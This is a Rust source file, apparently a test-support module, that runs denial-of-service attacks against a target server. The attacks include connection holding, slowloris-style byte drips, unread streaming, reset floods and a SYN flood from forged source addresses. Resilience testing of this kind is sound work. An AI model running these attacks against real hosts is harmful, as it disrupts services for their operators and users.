//! Runs an attack of `support::attack` at its full rate until `ended` is set, in one thread. Connected sockets are non-blocking.

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use rustix::io::Errno;
use rustix::net::{AddressFamily, SocketFlags, SocketType, socket_with};

use crate::client;
use crate::support::attack::Form;
use crate::support::http::reset;

/// Timeout of a connect. A connect can take this long while the server's accept queue is full.
const TIMEOUT: Duration = Duration::from_millis(500);
/// Pause between two rounds of writes.
const TURN: Duration = Duration::from_millis(2);

pub struct Target<'a> {
    pub address: SocketAddr,
    /// The attacker's address.
    pub from: Ipv4Addr,
    pub ended: &'a AtomicBool,
}

impl Target<'_> {
    pub fn attack(&self, form: &Form) {
        match form {
            Form::Hold {
                per_second,
                max_open,
                bytes,
            } => self.hold(*per_second, *max_open, bytes),
            Form::Stream {
                connections,
                begin,
                then,
                max_bytes,
            } => self.stream(*connections, begin, then, *max_bytes),
            Form::Drip { connections, bytes } => self.drip(*connections, bytes),
            Form::Reset { per_second, bytes } => self.pace(*per_second, |_| {
                self.send(bytes).into_iter().for_each(reset);
            }),
        }
    }

    fn is_alive(&self) -> bool {
        !self.ended.load(Ordering::Relaxed)
    }

    fn connect(&self) -> Option<TcpStream> {
        let stream = client::connect(self.from, self.address, TIMEOUT).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    }

    /// Connects and sends what fits into the socket buffer.
    fn send(&self, bytes: &[u8]) -> Option<TcpStream> {
        let mut stream = self.connect()?;
        _ = stream.write(bytes);
        Some(stream)
    }

    /// Calls `act` `per_second` times a second.
    fn pace(&self, per_second: u32, mut act: impl FnMut(usize)) {
        let mut due = Instant::now();
        for number in 0.. {
            if !self.is_alive() {
                return;
            }
            act(number);
            // If `act` took too long, the missed calls follow without a pause, but only those of the last 500 ms (`TIMEOUT`).
            due = (due + Duration::from_secs(1) / per_second).max(Instant::now() - TIMEOUT);
            std::thread::sleep(due.saturating_duration_since(Instant::now()));
        }
    }

    /// Sends a SYN packet from each of the addresses in turn, and completes no connection.
    pub fn forge(&self, per_second: u32, sources: &[Ipv4Addr]) {
        self.pace(per_second, |number| {
            let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
            let socket = socket_with(AddressFamily::INET, SocketType::STREAM, flags, None).unwrap();
            let source = sources[number % sources.len()];
            rustix::net::bind(&socket, &SocketAddr::new(source.into(), 0)).unwrap();
            let connecting = rustix::net::connect(&socket, &self.address);
            assert_eq!(connecting, Err(Errno::INPROGRESS));
        });
    }

    /// Opens `per_second` connections each second, sends `bytes(number)` on each, and keeps only the newest `max_open` open.
    fn hold(&self, per_second: u32, max_open: usize, bytes: &fn(usize) -> Vec<u8>) {
        let mut held = VecDeque::new();
        self.pace(per_second, |number| {
            held.extend(self.send(&bytes(number)));
            if held.len() > max_open {
                held.pop_front();
            }
        });
    }

    /// Opens `connections` connections and reads nothing. On each, sends `begin` once, and after it the bytes `then` repeatedly.
    /// A connection that is closed, or on which `max_bytes` bytes were sent, is replaced.
    fn stream(&self, connections: usize, begin: &str, then: &[u8], max_bytes: usize) {
        let mut streams: Vec<(TcpStream, usize)> = Vec::new();
        while self.is_alive() {
            streams.retain_mut(
                |(stream, sent)| match stream.write(&then[*sent % then.len()..]) {
                    Ok(length) => {
                        *sent += length;
                        *sent < max_bytes
                    }
                    Err(error) => error.kind() == ErrorKind::WouldBlock,
                },
            );
            if streams.len() < connections {
                streams.extend(self.send(begin.as_bytes()).map(|stream| (stream, 0)));
            }
            std::thread::sleep(TURN);
        }
    }

    /// Sends one byte a second on each connection, and replaces closed connections.
    fn drip(&self, connections: usize, bytes: &[u8]) {
        let mut dripping: Vec<(TcpStream, usize)> = Vec::new();
        self.pace(connections as u32, |number| {
            let place = number % connections;
            if place >= dripping.len() {
                dripping.extend(self.connect().map(|stream| (stream, 0)));
                return;
            }
            let (stream, sent) = &mut dripping[place];
            let byte = &bytes[*sent % bytes.len()..][..1];
            *sent += 1;
            let is_cut = stream.write(byte).is_err() || matches!(stream.read(&mut [0]), Ok(0));
            if is_cut && let Some(stream) = self.connect() {
                dripping[place] = (stream, 0);
            }
        });
    }
}
